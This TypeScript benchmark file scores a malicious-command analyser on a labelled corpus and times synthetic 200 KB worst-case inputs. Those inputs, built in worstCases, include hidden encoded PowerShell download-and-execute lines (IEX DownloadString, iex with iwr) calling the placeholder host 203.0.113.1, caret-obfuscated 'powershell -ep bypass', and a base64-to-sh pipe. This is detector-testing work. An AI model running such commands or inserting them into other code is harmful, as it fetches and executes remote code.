/**
 * `npm run bench -- --only=analyze`: the command-line analyser on the labelled public corpus of
 * test/fixtures/command-corpus/ — recall of labelled behaviours, false-positive rate on the benign
 * set, and time per command line, 200 KB worst cases included (issue 21).
 */
import { zlibInflate } from '../src/adapters/analysis/inflate';
import { analyzeCommand } from '../src/domain/command-analysis';
import { loadCommandCorpus, type CorpusEntry } from './lib/command-corpus';
import { scoreCorpus, spreadMisses, type EntryOutcome } from './lib/corpus-score';
import { percentile, round } from './lib/measure';

/** What the bench needs of an engine: the finding ids of one command line (sync or not). */
export type CommandAnalyser = (text: string) => { findings: { id: string }[] } | Promise<{ findings: { id: string }[] }>;

const WORST_CASE_BYTES = 200 * 1024;

function utf16leBase64(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** Inputs at the size limit in the shapes that cost the most: long encoded payloads and heavy obfuscation. */
export function worstCases(bytes = WORST_CASE_BYTES): Record<string, string> {
  const fill = (unit: string, prefix: string, suffix = '') => prefix + unit.repeat(Math.ceil((bytes - prefix.length - suffix.length) / unit.length)).slice(0, bytes - prefix.length - suffix.length) + suffix;
  // UTF-16LE doubles, base64 adds a third: this many script characters make `bytes` of base64.
  const scriptChars = Math.floor((bytes - 40) / (8 / 3));
  const script = fill("$a+='x'; Write-Host $a; ", '', "; IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.1/a')").slice(-scriptChars);
  return {
    encoded_command: `powershell.exe -nop -w hidden -EncodedCommand ${utf16leBase64(script)}`,
    caret_cmd: fill('^p^o^w^e^r^s^h^e^l^l ^-^e^p ^b^y^p^a^s^s ', 'cmd.exe /c "', '"'),
    base64_pipe: fill('QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB', 'echo ', ' | base64 -d | sh'),
    nested_quotes: fill(`bash -c "sh -c 'echo \\"x\\"' " ; `, ''),
    concatenation: fill("'i'+'e'+'x'+", 'powershell -c "&(', "'') (iwr http://203.0.113.1/a)\""),
  };
}

async function timed(analyse: CommandAnalyser, text: string): Promise<{ ms: number; found: string[] }> {
  const start = performance.now();
  const result = await analyse(text);
  return { ms: performance.now() - start, found: [...new Set(result.findings.map((f) => f.id))] };
}

/** The engine as the worker runs it: node's zlib for the payloads scripts inflate. */
const workerEngine: CommandAnalyser = (text) => analyzeCommand(text, { inflate: zlibInflate });

export async function benchAnalyze(rounds: number, analyse: CommandAnalyser = workerEngine): Promise<Record<string, unknown>> {
  const corpus = loadCommandCorpus();
  const run = async (entries: CorpusEntry[], samples: number[]): Promise<EntryOutcome[]> => {
    const out: EntryOutcome[] = [];
    for (const entry of entries) {
      const { ms, found } = await timed(analyse, entry.command);
      samples.push(ms);
      out.push({ entry, found });
    }
    return out;
  };
  // The first pass warms the JIT and gives the findings; its times are not counted when there are more rounds.
  const warm: number[] = [];
  const labelled = await run(corpus.labelled, warm);
  const benign = await run(corpus.benign, warm);
  const worst = worstCases();
  const samples: number[] = rounds > 1 ? [] : warm;
  const worstMs: Record<string, number> = {};
  for (let r = 1; r < rounds; r++) {
    await run(corpus.labelled, samples);
    await run(corpus.benign, samples);
  }
  for (const [name, text] of Object.entries(worst)) {
    for (let r = 0; r < Math.max(1, rounds); r++) {
      const { ms } = await timed(analyse, text);
      samples.push(ms);
      worstMs[name] = round(Math.max(worstMs[name] ?? 0, ms));
    }
  }
  const sorted = [...samples].sort((a, b) => a - b);
  const score = scoreCorpus(labelled, benign);
  return {
    recall: score.recall,
    false_positive_rate: score.false_positive_rate,
    p50_ms: round(percentile(sorted, 50), 3),
    p99_ms: round(percentile(sorted, 99), 3),
    worst_ms: round(sorted[sorted.length - 1] ?? NaN),
    entries: score.entries,
    behaviours: score.behaviours,
    found: score.found,
    benign: score.benign,
    false_positive_entries: score.false_positive_entries,
    timed_runs: samples.length,
    worst_case_bytes: WORST_CASE_BYTES,
    worst_case_ms: worstMs,
    per_technique: score.per_technique,
    per_finding: score.per_finding,
    misses: score.misses.length,
    // 20 misses spread over the finding ids, for the parser work; the whole list comes from `scoreCorpus`.
    top_misses: spreadMisses(score.misses, 20),
    false_positives: score.false_positives,
  };
}
